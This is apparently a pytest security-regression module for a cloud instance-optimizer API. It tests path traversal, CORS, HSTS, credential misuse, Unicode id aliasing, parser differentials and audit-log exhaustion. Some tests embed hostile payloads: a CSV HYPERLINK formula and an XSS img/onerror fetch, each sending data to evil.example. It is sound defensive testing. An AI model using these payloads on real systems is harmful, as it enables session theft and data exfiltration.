"""Security walk 15: the ground the earlier walks left — the operator's model registry (what a manifest's version
becomes: a registry key, an S3 folder, a route's path segment), query parameters that look like ids but carry more,
the operator's routes with an agent's credential, cross-site reads and writes of the API and its console (CORS,
HSTS and the other headers on every kind of answer, bodies a foreign form can send, what the console renders), ids
that differ from another row's only by case or script, an agent replaying its sibling's calls, the instance quota
of an agent moved to another region, bodies in UTF-16 or UTF-32, a NUL before a CSV formula, and the size of the
operator's audit-log page. Each test is one attack; its docstring says what it tries and what holds (and, when it
found something, what happened before the fix)."""

from __future__ import annotations

import base64
import json
import re

import pytest

from chalicelib import bootstrap, model_store
from chalicelib.repositories import agents as agent_repo
from chalicelib.settings import get_settings
from tests.api._support import assert_error, diff_snapshots, snapshot_tables, switch_body
from tests.api.test_agent_identity import verified  # noqa: F401 - a fixture
from tests.api.test_models_legacy import ARTIFACT, manifest_for
from tests.conftest import Caller, aws_client, new_instance_id, registration


def _unchanged_but_rate_limits(before) -> None:
    changed = diff_snapshots(before, snapshot_tables())
    assert set(changed) <= {t for t in changed if t.endswith("-rate-limits")}, changed


def _model_objects() -> set[str]:
    """Every key of the model bucket (artifacts of every version, presigned uploads)."""
    pages = aws_client("s3").get_paginator("list_objects_v2").paginate(Bucket=get_settings().model_bucket)
    return {o["Key"] for page in pages for o in page.get("Contents", [])}


# --- the model registry: a manifest's version is a key, a folder and a path segment --------------------------------


ODD_VERSIONS = {
    "over-a-sort-key": "v" * 1100,  # DynamoDB's sort key holds 1,024 bytes: the registry's put failed after S3's
    "the-pointer-key": model_store.POINTER,  # "_active": the registry row the active version is read from
    "dot-dot-slash": "../../../uploads/x",  # a key outside the artifact's own folder, read as a path by any sync
    "space-and-slash": "v 1/2",  # never a path segment of /api/admin/ml-models/{version}/activate
    "nul": "v1\x00",
    "non-ascii": "vé-1",
    "one-past-the-route": "v" * 129,  # neither the path route nor the legacy sessionId (128) could activate it
}


@pytest.mark.usefixtures("keep_the_active_model")
@pytest.mark.parametrize("route", ["/api/admin/ml-models", "/api/admin/ml-models/upload"])
@pytest.mark.parametrize("name", sorted(ODD_VERSIONS))
def test_a_model_version_that_is_no_id_is_400_and_stores_nothing(admin, route, name):
    """The attack (with the operator's key, as a stolen console session or a sloppy training script sends): a model
    whose manifest names a version that is not an id. BEFORE: any non-empty string was a version. 1,100 characters
    put the artifact in S3, then the registry's put failed on DynamoDB's key limit: a 500, an orphaned object.
    ``_active`` (when no version had been activated yet) registered a row at the pointer's own key: every later
    activation found a "pointer" without an active version, conditioned its write on the pointer not existing and
    answered 409 forever (no model could ever be activated). ``../../../uploads/x`` wrote the artifact outside its
    version's folder; a space, a slash, a NUL, an accent or 129 characters made a version that no activation route
    could name. NOW: the manifest's version must be an id (1-128 of ``A-Z a-z 0-9 . _ : -``, a letter or digit
    first, the activate route's own shape): 400 naming ``version``, nothing in the registry, nothing in S3."""
    version = ODD_VERSIONS[name]
    ModelRegistryTable = model_store.ModelRegistryTable
    ModelRegistryTable(model_store.MODEL_NAME, model_store.POINTER).delete()  # no active version yet (restored after)
    objects, before = _model_objects(), snapshot_tables()
    manifest = dict(manifest_for(), version=version)
    status, reply = admin.post(route, {"manifest": manifest, "artifact_base64": base64.b64encode(ARTIFACT).decode()})
    assert_error(status, reply, 400, field="version")
    assert _model_objects() == objects
    _unchanged_but_rate_limits(before)
    assert model_store.pointer() is None


@pytest.mark.usefixtures("keep_the_active_model")
def test_a_model_version_of_the_routes_shape_is_still_uploaded_and_activated(admin):
    """The other side of the fix above: versions as training names them (``20261202-99251d5f``, ``legacy-1a2b``,
    ``v1.2.3``, ``2026:12``) are uploaded, and the path route activates them once validated."""
    from tests.api.test_models_legacy import make_pending

    suffix = manifest_for()["version"].removeprefix("legacy-")  # 8 fresh hex digits
    for version in (f"20261202-{suffix}", f"v1.2.3_{suffix}:rc1"):
        status, reply = admin.post("/api/admin/ml-models", {"manifest": dict(manifest_for(), version=version),
                                                           "artifact_base64": base64.b64encode(ARTIFACT).decode()})
        assert status == 201 and reply["version"] == version, reply
        make_pending(version)
        status, reply = admin.post(f"/api/admin/ml-models/{version}/activate", {})
        assert status == 200 and reply["status"] == "active", reply


# --- a query parameter that looks like an id ------------------------------------------------------------------------


@pytest.mark.parametrize("queued", [False, True], ids=["idle-agent", "agent-with-a-command"])
@pytest.mark.parametrize("suffix", ["%0A"])
def test_an_instance_id_with_a_trailing_newline_is_400_on_the_command_poll(tenant_with_agent, queued, suffix):
    """The attack: the agent's command poll naming its instance as ``?instance_id=i-…%0A`` (Python's ``$`` matches
    before a final newline, so ``re.match`` of the id pattern takes it; every schema field strips or full-matches).
    BEFORE: the poll took it as an instance id: 200 with nothing, and with a queued switch of the instance, the
    lease logic compared the command's instance with one no EC2 instance has. NOW: the id must be the whole
    parameter: 400 naming ``instance_id``, nothing leased; the bare id still gets the switch."""
    _, caller, agent_id, reg = tenant_with_agent
    instance = reg["instance_id"]
    if queued:
        status, reply = caller.post(f"/api/client/instances/{instance}/force-switch", {"target": "ondemand"})
        assert status == 201, reply
    before = snapshot_tables()
    status, reply = caller.get(f"/api/agents/{agent_id}/pending-commands?instance_id={instance}{suffix}")
    assert_error(status, reply, 400, field="instance_id")
    _unchanged_but_rate_limits(before)
    status, reply = caller.get(f"/api/agents/{agent_id}/pending-commands?instance_id={instance}")
    assert status == 200 and len(reply["commands"]) == int(queued), reply


# --- cross-site: headers on every kind of answer, no CORS ----------------------------------------------------------


def _every_kind_of_answer(api, chalice_app, make_tenant, admin_key) -> dict[str, dict[str, str]]:
    """The headers (names lower-cased) of one answer of each kind the app makes: JSON 200, JSON 4xx of the app and
    of Chalice (405, 415), the console's page, module, vendor file, missing file and redirect, a CSV export, the
    anonymous routes."""
    from tests.api.test_console import _gateway_event

    client_id, caller = make_tenant()
    bearer = {"Authorization": f"Bearer {caller.token}"}
    http = api.http
    answers = {
        "json-200": http.get("/api/client/validate", headers=bearer),
        "json-401": http.get("/api/client/validate"),
        "json-400": http.get(f"/api/client/{client_id}/agents?limit=0", headers=bearer),
        "admin-200": http.get("/api/admin/clients?limit=1", headers={"X-Admin-Key": admin_key}),
        "chalice-405": http.request("PATCH", "/api/client/validate", headers=bearer, body=b""),
        "chalice-415": http.post("/api/agents/register", headers={**bearer, "Content-Type": "text/plain"}, body="x"),
        "csv": http.get(f"/api/client/{client_id}/agents?format=csv", headers=bearer),
        "console-page": http.get("/"),
        "console-module": http.get("/console/main.js"),
        "console-vendor": http.get("/console/vendor/chart.umd.min.js"),
        "console-404": http.get("/console/nothing.js"),
        "health": http.get("/health"),
        "openapi": http.get("/api/openapi.json"),
    }
    headers = {name: {k.lower(): v for k, v in r.headers.items()} for name, r in answers.items()}
    redirect = chalice_app(_gateway_event("/api"), None)  # the stage root without its slash
    assert redirect["statusCode"] == 308
    headers["console-redirect"] = {k.lower(): v for k, v in redirect["headers"].items()}
    return headers


def test_every_kind_of_answer_keeps_the_browser_on_https(api, chalice_app, make_tenant, admin_key):
    """The attack (a network attacker near an operator or a client): the console is typed without ``https://``,
    or followed from an ``http://`` link; the browser asks over plain HTTP first, and whoever answers there serves
    a look-alike sign-in that takes the client token or the admin key. BEFORE: no answer carried
    ``Strict-Transport-Security``, so every first request of every visit could go out over HTTP. NOW: every answer
    (JSON, errors of the app and of Chalice, the console's files and redirect, CSV exports, the anonymous routes;
    API Gateway's own answers take the same ``RESPONSE_HEADERS``) tells the browser to use HTTPS only, for a year."""
    for name, headers in _every_kind_of_answer(api, chalice_app, make_tenant, admin_key).items():
        hsts = headers.get("strict-transport-security", "")
        assert hsts.startswith("max-age=") and int(hsts.split("=")[1].split(";")[0]) >= 31_536_000, (name, headers)


def test_no_route_lets_another_site_read_its_answers(api, chalice_app, make_tenant, admin_key):
    """The attack: a page on another origin, opened by a signed-in operator or client, reads the API's answers
    (the console keeps its secret in sessionStorage, but a tenant's agent, a script or a browser extension sends
    credentials from anywhere) or preflights a write. Holds: no route of the app declares CORS (so API Gateway
    makes no OPTIONS answer for it either), and no answer of any kind carries ``Access-Control-Allow-*`` for a
    foreign ``Origin``, let alone a wildcard with credentials."""
    declared = [(path, method) for path, methods in chalice_app.routes.items() for method, entry in methods.items()
                if entry.cors]
    assert declared == []
    answers = _every_kind_of_answer(api, chalice_app, make_tenant, admin_key)
    client_id, caller = make_tenant()
    origin = {"Origin": "https://evil.example", "Authorization": f"Bearer {caller.token}"}
    for name, response in (("with-origin", api.http.get(f"/api/client/{client_id}", headers=origin)),
                           ("post-with-origin", api.http.post("/api/notifications/mark-all-read", headers=origin,
                                                              body="{}"))):
        assert response.status_code == 200, (name, response.body)
        answers[name] = {k.lower(): v for k, v in response.headers.items()}
    for name, headers in answers.items():
        assert [k for k in headers if k.startswith("access-control-")] == [], (name, headers)


# --- an agent's credential: never the operator's, never its sibling's ----------------------------------------------


def test_no_admin_route_takes_an_agent_credential_in_any_header(verified, api, chalice_app):  # noqa: F811
    """The attack: an attacker on a verified agent's instance holds its credential (``soa_<client>.<agent>.…``)
    and tries it on every operator route (so a new one is covered without touching this test), in each header a
    secret can travel in: ``Authorization: Bearer``, ``X-Client-Token`` and ``X-Admin-Key`` itself; the path names
    the agent's own client where a route takes one (its own tenant's quotas, rate limit, accounts, token). Holds:
    401 on every one, nothing written (walk 9 did the same with a client token)."""
    client_id, _, a, _ = verified
    ids = {"client_id": client_id, "account_id": "123456789012", "version": "x1"}
    credential = a["credential"]
    callers = (Caller(api.http, token=credential), Caller(api.http, admin=credential))
    before = snapshot_tables()
    routes = [(path, method) for path, methods in sorted(chalice_app.routes.items()) if path.startswith("/api/admin")
              for method in methods]
    assert len(routes) > 30
    for path, method in routes:
        url = re.sub(r"\{(\w+)\}", lambda m: ids[m.group(1)], path)
        for who in callers:
            assert_error(*who.call(method, url, {}), 401)
        assert_error(*Caller(api.http).call(method, url, {}, headers={"X-Client-Token": credential}), 401)
    _unchanged_but_rate_limits(before)


def test_an_agent_cannot_report_on_or_extend_its_siblings_command(verified):  # noqa: F811
    """The attack (replaying another agent's idempotent calls): agent B of the same client, with its own valid
    credential, reports agent A's delivered switch command as done (the v4 result route and v3.2's
    ``mark-command-executed``) or extends its lease, on B's own path and on A's, and replays the switch report and
    the termination report A would send for its instance. Holds: 404 on each, A's command is untouched (still
    leased to A, no result), A's instance still active and A's poll still has the command."""
    client_id, caller, a, b = verified
    status, reply = caller.post(f"/api/client/instances/{a['body']['instance_id']}/force-switch",
                                {"target": "ondemand"})
    assert status == 201, reply
    command_id = reply["command"]["id"]
    status, reply = a["caller"].get(f"/api/agents/{a['agent_id']}/pending-commands")
    assert status == 200 and [c["id"] for c in reply["commands"]] == [command_id], reply
    leased = bootstrap.command_store().get(a["agent_id"], command_id)
    before = snapshot_tables()
    for agent_id in (b["agent_id"], a["agent_id"]):
        for path, body in ((f"/commands/{command_id}/executed", {"success": True, "message": "done"}),
                           (f"/commands/{command_id}/extend", {}),
                           ("/mark-command-executed", {"command_id": command_id})):
            status, reply = b["caller"].post(f"/api/agents/{agent_id}{path}", body)
            assert_error(status, reply, 404)
    instance = a["body"]["instance_id"]
    for path, body in (("/switch-report", switch_body(instance, new_instance_id(), command_id=command_id)),
                       ("/termination", {"instance_id": instance, "reason": "spot interruption"})):
        assert_error(*b["caller"].post(f"/api/agents/{b['agent_id']}{path}", body), 404)
    _unchanged_but_rate_limits(before)
    assert agent_repo.instance_row(instance).is_active
    assert bootstrap.command_store().get(a["agent_id"], command_id) == leased
    status, reply = a["caller"].get(f"/api/agents/{a['agent_id']}/pending-commands")
    assert status == 200 and [c["id"] for c in reply["commands"]] == [command_id], reply


# --- ids that differ from another tenant's only by case or script -------------------------------------------------


def _variants(value: str) -> list[str]:
    """``value`` upper-cased, with its letters' case swapped, with a trailing dot, and with each ASCII digit in its
    fullwidth form (NFKC folds it back to ASCII: a store or check that normalised would alias the two)."""
    fullwidth = "".join(chr(ord(c) - 0x30 + 0xFF10) if c.isdigit() else c for c in value)
    return [value.upper(), value.swapcase(), value + ".", fullwidth]


def test_a_case_or_script_variant_of_another_tenants_id_reaches_nothing(make_tenant):
    """The attack: tenant B names tenant A's client, agent and instance with ids that differ only in case, a
    trailing dot or fullwidth digits, in the path of every kind of client and agent route (reads, a switch, a
    delete), and registers an upper-case variant of A's instance id. Holds: each is 400 (not an id) or 404 (no such
    row of B's), none answers any of A's ids, the registration is a 400 naming ``instance_id``, nothing written."""
    a_client, a = make_tenant()
    reg = registration()
    status, reply = a.post("/api/agents/register", reg)
    assert status == 200, reply
    a_agent, a_instance = reply["agent_id"], reg["instance_id"]
    _, b = make_tenant()
    routes = []
    for cid in _variants(a_client):
        routes += [("GET", f"/api/client/{cid}", None), ("GET", f"/api/client/{cid}/agents", None),
                   ("GET", f"/api/client/{cid}/instances?format=csv", None)]
    for aid in _variants(a_agent):
        routes += [("GET", f"/api/client/agents/{aid}/decisions", None), ("GET", f"/api/agents/{aid}/config", None),
                   ("POST", f"/api/agents/{aid}/heartbeat", {"status": "online"}),
                   ("POST", f"/api/client/agents/{aid}/toggle-enabled", {"enabled": False}),
                   ("DELETE", f"/api/client/agents/{aid}", None)]
    for iid in _variants(a_instance):
        routes += [("GET", f"/api/client/instances/{iid}/pricing", None),
                   ("GET", f"/api/client/instances/{iid}/price-history", None),
                   ("POST", f"/api/client/instances/{iid}/force-switch", {"target": "ondemand"})]
    before = snapshot_tables()
    for method, path, body in routes:
        status, reply = b.call(method, path, body)
        assert status in (400, 404), (method, path, status, reply)
        assert_error(status, reply, status)
        assert not {a_client, a_agent, a_instance} & set(re.findall(r"[\w-]+", str(reply))), (path, reply)
    status, reply = b.post("/api/agents/register", registration(instance_id=a_instance.upper().replace("I-", "i-")))
    assert_error(status, reply, 400, field="instance_id")
    _unchanged_but_rate_limits(before)


# --- the instance quota counts where the client's launched instances are -----------------------------------------


def _primary_in(region: str, az: str, instance_type: str) -> str:
    """A customer's spot instance (untagged by us) in ``region``: what a standby there is copied from."""
    from localmode.embedded_aws import image_id

    client = aws_client("ec2", region)
    return client.run_instances(
        ImageId=image_id(client), InstanceType=instance_type, MinCount=1, MaxCount=1, Placement={"AvailabilityZone": az},
        InstanceMarketOptions={"MarketType": "spot", "SpotOptions": {"SpotInstanceType": "one-time"}},
    )["Instances"][0]["InstanceId"]


def _managed_live(client_id: str, *regions: str) -> list[str]:
    """The live instances the product launched for ``client_id`` in ``regions`` (EC2, by our tags)."""
    from chalicelib.aws import ec2

    return sorted(i.instance_id for region in regions for i in ec2.managed_instances(region, client_id=client_id))


def _priced_manual_agent(caller, agent_id: str, itype: str, region: str) -> None:
    report = {"instance": {"instance_type": itype, "region": region},
              "pricing": {"on_demand_price": 0.192,
                          "spot_pools": [{"pool_id": f"{itype}.{region}{z}", "price": 0.03} for z in "abc"]}}
    assert caller.post(f"/api/agents/{agent_id}/pricing-report", report)[0] == 200
    assert caller.post(f"/api/client/agents/{agent_id}/config", {"manual_replica_enabled": True})[0] == 200


def test_moving_an_agent_to_another_region_does_not_hide_its_standby_from_the_instance_quota(make_tenant, admin):
    """The attack (a legacy tenant, whose registrations are taken on trust): with ``max_instances`` 1, agent A in
    us-east-1 gets its standby (the client's one launched instance); agent B in eu-west-1 is refused its standby
    (quota); A is then registered again under its logical id from an instance in eu-west-1, and B asks again.
    BEFORE: the quota counted the launched instances only in the regions the agents are in now: A's standby,
    still running in us-east-1 (A's migration keeps it), was no longer counted, and B's standby was launched, two
    instances for a quota of one (and again for every agent moved, the home account paying). NOW: the regions of
    the agents' active standbys count too: B is refused (409 ``quota_exceeded``), one launched instance."""
    from tests.e2e.failover_support import register_agent

    client_id, caller, a_agent, _, itype = register_agent(make_tenant)  # us-east-1, a real primary, prices
    status, reply = admin.post(f"/api/admin/clients/{client_id}/limits", {"max_instances": 1})
    assert status == 200, reply
    assert caller.post(f"/api/client/agents/{a_agent}/config", {"manual_replica_enabled": True})[0] == 200
    status, standby = caller.post(f"/api/agents/{a_agent}/replicas", {})
    assert status == 201 and standby["instance_id"], standby
    b_body = registration(instance_id=_primary_in("eu-west-1", "eu-west-1a", itype), instance_type=itype,
                          region="eu-west-1", az="eu-west-1a", mode="spot")
    status, reply = caller.post("/api/agents/register", b_body)
    assert status == 200, reply
    b_agent = reply["agent_id"]
    _priced_manual_agent(caller, b_agent, itype, "eu-west-1")
    assert_error(*caller.post(f"/api/agents/{b_agent}/replicas", {}), 409, code="quota_exceeded")

    logical = agent_repo.get(client_id, a_agent).logical_agent_id
    moved = registration(instance_id=_primary_in("eu-west-1", "eu-west-1b", itype), instance_type=itype,
                         region="eu-west-1", az="eu-west-1b", mode="spot", logical_agent_id=logical)
    status, reply = caller.post("/api/agents/register", moved)
    assert status == 200 and reply["agent_id"] == a_agent, reply
    assert _managed_live(client_id, "us-east-1") == [standby["instance_id"]]  # A's standby still runs there

    status, reply = caller.post(f"/api/agents/{b_agent}/replicas", {})
    assert_error(status, reply, 409, code="quota_exceeded")
    assert _managed_live(client_id, "us-east-1", "eu-west-1") == [standby["instance_id"]]


# --- CSV exports -------------------------------------------------------------------------------------------------


def test_a_formula_behind_a_leading_nul_is_quoted_in_every_agent_export(make_tenant, api):
    """The attack (formula injection past the quoting of walk 4): an agent's hostname of a NUL and then a formula
    (``\\u0000=HYPERLINK(…)``: JSON carries it, the schema's whitespace strip leaves it; ASVS 5 V1.2.10 lists a
    leading NUL with ``= + - @`` and tab, since a reader that drops it reads the formula). BEFORE: only a cell
    starting with ``= + - @``, tab or CR was quoted: this one went out as it was, in the client's agent exports
    and the operator's fleet export. NOW: a leading NUL is quoted like the others (``'`` first); every other cell
    as before."""
    import csv
    import io

    from chalicelib.api.csv_export import cell

    hostile = '\x00=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    client_id, caller = make_tenant()
    status, reply = caller.post("/api/agents/register", registration(hostname=hostile))
    assert status == 200, reply
    for export in ("agents", "agents/history"):
        response = api.http.get(f"/api/client/{client_id}/{export}?format=csv",
                                headers={"Authorization": f"Bearer {caller.token}"})
        assert response.status_code == 200, response.body
        [row] = list(csv.DictReader(io.StringIO(response.body.decode())))
        assert row["hostname"] == "'" + hostile, row
    assert cell(hostile) == "'" + hostile and cell("web-1") == "web-1" and cell("\x00") == "'\x00"


# --- request bodies ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-32-be"])
def test_a_json_body_in_utf_16_or_32_is_400_and_writes_nothing(make_tenant, api, encoding):
    """The attack (a parser differential): a registration, and an agent's disabling, sent as JSON in UTF-16 or
    UTF-32, with or without a byte-order mark. Whatever reads the body as UTF-8 in front of the service (a WAF
    rule the operator adds to the stage, a body log) sees NULs and noise where the service reads a command.
    BEFORE: ``json.loads`` of the raw bytes detects UTF-16 and UTF-32 and decodes them: 200, the agent registered
    (or disabled). NOW: a body is UTF-8 (RFC 8259 8.1; a UTF-8 byte-order mark is still ignored): 400
    ``malformed_json``, nothing written; the same body in UTF-8 with a BOM is still taken."""
    client_id, caller = make_tenant()
    status, reply = caller.post("/api/agents/register", registration())
    assert status == 200, reply
    agent_id = reply["agent_id"]
    headers = caller.headers()
    before = snapshot_tables()
    for path, body in (("/api/agents/register", registration(hostname="hé")),
                       (f"/api/client/agents/{agent_id}/toggle-enabled", {"enabled": False})):
        response = api.http.post(path, headers=headers, body=json.dumps(body, ensure_ascii=False).encode(encoding))
        assert_error(response.status_code, json.loads(response.body), 400, code="malformed_json")
    _unchanged_but_rate_limits(before)
    response = api.http.post(f"/api/client/agents/{agent_id}/toggle-enabled", headers=headers,
                             body=json.dumps({"enabled": False}).encode("utf-8-sig"))
    assert response.status_code == 200 and json.loads(response.body)["enabled"] is False, response.body


# --- methods a route does not have, query strings -----------------------------------------------------------------


def test_a_method_no_route_declares_is_405_everywhere_and_reaches_no_view(make_tenant, api, chalice_app, admin_key):
    """The attack: every route (walked from the app's table) with each of HEAD, PATCH, PUT, DELETE, GET and POST it
    does not declare, carrying a valid client token and the admin key at once, in case one of them (HEAD on a GET
    above all: some stacks answer it from the GET view) runs a view or skips its check. Holds: 405
    ``method_not_allowed`` in the product's JSON error shape, ``Allow`` naming the route's own methods, every
    security header, nothing written."""
    client_id, caller = make_tenant()
    agent_id = caller.post("/api/agents/register", registration())[1]["agent_id"]
    ids = {"client_id": client_id, "agent_id": agent_id}
    headers = {**caller.headers(), "X-Admin-Key": admin_key}
    before = snapshot_tables()
    tried = 0
    for path, methods in sorted(chalice_app.routes.items()):
        url = re.sub(r"\{(\w+)\}", lambda m: ids.get(m.group(1), "x1"), path)
        for method in sorted({"HEAD", "PATCH", "PUT", "DELETE", "GET", "POST"} - set(methods)):
            response = api.http.request(method, url, headers=headers, body=b"{}")
            answer = {k.lower(): v for k, v in response.headers.items()}
            assert response.status_code == 405, (method, url, response.status_code, response.body)
            assert_error(405, json.loads(response.body), 405, code="method_not_allowed")
            assert set(answer["allow"].split(", ")) == set(methods), (method, url, answer)
            assert answer["x-content-type-options"] == "nosniff" and answer["cache-control"] == "no-store", answer
            assert "strict-transport-security" in answer, answer
            tried += 1
    assert tried > 400
    _unchanged_but_rate_limits(before)


def test_query_strings_repeated_or_long_are_read_once_and_bounded(make_tenant, api):
    """The attack: query parameters given twice (a stack that checks the first value and uses the last, or the
    reverse), and values far past anything the service issues (a 6,000-character ``next_token``, ``search`` and
    ``instance_id``, a 3,000-digit ``limit``). Holds: a repeated parameter is read once, the last value, for the
    check and the use alike (``limit=1&limit=2`` lists two rows; ``limit=2&limit=0`` is a 400); every overlong
    value is a JSON 400 naming its parameter; nothing written."""
    client_id, caller = make_tenant()
    for _ in range(3):
        assert caller.post("/api/agents/register", registration())[0] == 200
    base = f"/api/client/{client_id}"
    status, reply = caller.get(f"{base}/agents?limit=1&limit=2")
    assert status == 200 and len(reply["agents"]) == 2 and reply["next_token"], reply
    status, reply = caller.get(f"{base}/agents?limit=2&limit=1")
    assert status == 200 and len(reply["agents"]) == 1, reply
    before = snapshot_tables()
    for query, field in ((f"{base}/agents?limit=2&limit=0", "limit"), (f"{base}/agents?limit={'9' * 3000}", "limit"),
                         (f"{base}/agents?next_token={'A' * 6000}", "next_token"),
                         (f"{base}/instances?search={'a' * 6000}", "search"),
                         (f"{base}/switch-history?instance_id=i-{'0' * 6000}", "instance_id"),
                         (f"{base}/agents?format=csv&format={'x' * 6000}", "format"),
                         (f"/api/notifications?unread=true&unread={'t' * 6000}", "unread")):
        status, reply = caller.get(query)
        assert_error(status, reply, 400, field=field)
    _unchanged_but_rate_limits(before)


# --- the console renders tenants' strings as text ------------------------------------------------------------------


def test_the_console_puts_no_tenant_string_where_a_browser_would_run_or_follow_it(make_tenant, api):
    """The attack (stored XSS aimed at the operator or the client): an agent's hostname, logical id and a replica's
    tags are the tenant's own text, shown in the client's console and the operator's fleet pages; a hostname of
    markup, and ids that would make a link ``javascript:``. Holds: the API answers them as JSON strings
    (``application/json``, ``nosniff``, a deny-all CSP), and the console (Preact's ``html`` templates, which set
    text and attributes, never HTML) has no HTML sink (``innerHTML`` and kin: test_console.py checks ``innerHTML``
    alone), binds no data to ``src``, ``srcdoc``, ``formaction`` or ``style``, and every ``href`` it builds is a
    ``#`` route of its own (a tenant's id can only change which page of the console it opens)."""
    from pathlib import Path

    code = {p.name: p.read_text() for p in (Path(__file__).resolve().parents[2] / "web" / "js").glob("*.js")}
    for name, text in code.items():
        for sink in ("outerHTML", "insertAdjacentHTML", "document.write", "DOMParser", "createContextualFragment",
                     "dangerouslySetInnerHTML", "srcdoc", "javascript:"):
            assert sink not in text, (name, sink)
        assert re.findall(r"\b(?:src|formaction|style|xlink:href)=\$\{", text) == [], name
        for target in re.findall(r"\bhref=\$\{(.{0,3})", text):
            assert target.startswith("`#"), (name, target)
    markup = '<img src=x onerror="fetch(`//evil.example/`+sessionStorage.getItem(`spot-optimizer-session`))">'
    client_id, caller = make_tenant()
    assert caller.post("/api/agents/register", registration(hostname=markup))[0] == 200
    response = api.http.get(f"/api/client/{client_id}/agents", headers={"Authorization": f"Bearer {caller.token}"})
    headers = {k.lower(): v for k, v in response.headers.items()}
    assert headers["content-type"] == "application/json" and headers["x-content-type-options"] == "nosniff"
    assert headers["content-security-policy"].startswith("default-src 'none'")
    assert json.loads(response.body)["agents"][0]["hostname"] == markup


# --- the operator's audit log: one tenant cannot make its page too big to answer ---------------------------------

LAMBDA_ANSWER_MAX = 6 * 1024 * 1024  # a synchronous Lambda's response payload (API Gateway then answers 502)


def test_a_tenants_reports_cannot_make_the_operators_activity_page_too_big_to_answer(tenant_with_agent, admin):
    """The attack (blinding the operator): a tenant's agent sends 100 cleanup reports of about 63 KB of ids each,
    just under what the audit log stores whole per event (``METADATA_MAX_BYTES``, 64 KB), 100 requests well inside
    its rate limit. BEFORE: the console's Activity page (``limit=100``, the newest first) answered every event
    whole: more than 6 MB, past what a Lambda may answer (API Gateway's 502), so the operator saw no audit log at
    all, the tenant's own events included, until other events pushed them out of the first page (or for their
    90 days of retention, with ``limit=200``). NOW: a page holds events up to a byte budget that fits a Lambda
    answer whatever it escapes; ``next_token`` then goes on after the last event served, and every event is
    reached by paging."""
    _, caller, agent_id, _ = tenant_with_agent
    report = {"snapshots": {"deleted": [f"snap-{i:02d}-" + "x" * 992 for i in range(63)]}}
    for _ in range(100):
        status, reply = caller.post(f"/api/agents/{agent_id}/cleanup-report", report)
        assert status == 200, reply
    seen, token, pages = 0, None, 0
    while seen < 100:
        status, reply = admin.get("/api/admin/activity?limit=100" + (f"&next_token={token}" if token else ""))
        assert status == 200, reply
        envelope = json.dumps({"statusCode": 200, "body": json.dumps(reply)})  # as the Lambda answers it
        assert len(envelope) < LAMBDA_ANSWER_MAX, (len(envelope), len(reply["events"]))
        mine = [e for e in reply["events"] if e["agent_id"] == agent_id and e["event_type"] == "cleanup_report"]
        assert all(e["metadata"]["snapshots"]["deleted"] == report["snapshots"]["deleted"] for e in mine)
        seen, token, pages = seen + len(mine), reply["next_token"], pages + 1
        assert token or seen >= 100
    assert seen == 100 and pages >= 2


SIMPLE_TYPES = ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x")


def test_no_route_takes_a_body_a_cross_site_form_can_send(make_tenant, api, chalice_app, admin_key):
    """The attack (a cross-site form or ``fetch`` without preflight): every POST, PUT and DELETE route sent a body a
    page on another site may send without asking (``text/plain``, a urlencoded or multipart form) holding JSON and
    a legacy body ``client_token``, with the client token and admin key in the headers too. Holds: 415
    ``unsupported_media_type`` in the product's error shape, nothing written; the operator's two legacy model
    upload routes alone take multipart (behind the admin key, which no browser sends by itself)."""
    client_id, caller = make_tenant()
    agent_id = caller.post("/api/agents/register", registration())[1]["agent_id"]
    ids = {"client_id": client_id, "agent_id": agent_id}
    body = json.dumps({"client_token": caller.token, "enabled": False, "target": "ondemand"})
    before = snapshot_tables()
    multipart_routes = set()
    for path, methods in sorted(chalice_app.routes.items()):
        url = re.sub(r"\{(\w+)\}", lambda m: ids.get(m.group(1), "x1"), path)
        for method, entry in methods.items():
            if method == "GET":
                continue
            for content_type in SIMPLE_TYPES:
                if content_type.startswith("multipart/") and "multipart/form-data" in entry.content_types:
                    multipart_routes.add(path)
                    continue
                response = api.http.request(method, url, body=body.encode(), headers={
                    "Content-Type": content_type, "Authorization": f"Bearer {caller.token}", "X-Admin-Key": admin_key})
                assert response.status_code == 415, (method, url, content_type, response.body)
                assert_error(415, json.loads(response.body), 415, code="unsupported_media_type")
    assert multipart_routes == {"/api/admin/ml-models/upload", "/api/admin/decision-engine/upload"}
    _unchanged_but_rate_limits(before)


# --- time windows, anonymous answers ------------------------------------------------------------------------------


ODD_SPANS = ("0", "-1", "91", "366", "1e3", "7.5", "0x10", "٣", "７", " 7", "7 ", "+7", "99999999999999999999", "")


def test_a_time_window_outside_its_bounds_or_not_ascii_digits_is_400_everywhere(make_tenant, admin):
    """The attack: every period a caller chooses (the price history's ``days``, 1-90 for an instance and 1-30 for
    the client; the savings' ``months``, 1-36; the operator's growth ``days``, 1-365) far past its bound, zero,
    negative, in exponent, hex or fractional notation, in Arabic-Indic or fullwidth digits (``int()`` takes them),
    padded, or empty: years of hourly buckets would be read and answered. Holds: each is a JSON 400 naming the
    parameter, nothing written; the bounds themselves are taken."""
    client_id, caller = make_tenant()
    reg = registration()
    assert caller.post("/api/agents/register", reg)[0] == 200
    windows = [(caller, f"/api/client/instances/{reg['instance_id']}/price-history", "days", 90),
               (caller, "/api/client/pricing-history", "days", 30),
               (caller, f"/api/client/{client_id}/savings", "months", 36),
               (admin, "/api/admin/clients/growth", "days", 365)]
    before = snapshot_tables()
    for who, path, name, high in windows:
        for value in (*ODD_SPANS, str(high + 1), str(high)):
            status, reply = who.get(f"{path}?{name}={value.replace(' ', '%20')}")
            if value.isascii() and value.isdigit() and 1 <= int(value) <= high:
                assert status == 200, (path, value, reply)
            else:
                assert_error(status, reply, 400, field=name)
    _unchanged_but_rate_limits(before)


def test_the_anonymous_routes_tell_nothing_of_the_deployment(api):
    """The attack (reconnaissance without any credential): the health check, the OpenAPI document and the console's
    files, for the service's AWS account id, ARNs, table, bucket, queue or state-machine names, the admin key's
    parameter path, or a secret of the test session. Holds: none of them carries any; ``/health`` says only its
    status, the stage and the version."""
    settings = get_settings()
    texts = {"health": api.http.get("/health").body.decode(), "openapi": api.http.get("/api/openapi.json").body.decode(),
             "console": api.http.get("/").body.decode() + api.http.get("/console/main.js").body.decode()
             + api.http.get("/console/api.js").body.decode()}
    assert set(json.loads(texts["health"])) == {"status", "checks", "stage", "version"}
    forbidden = [settings.model_bucket, settings.admin_key_parameter, "arn:aws:", "123456789012", "dynamodb.",
                 ":stateMachine:", "amazonaws.com", "sqs."]
    for name, text in texts.items():
        for secret in forbidden:
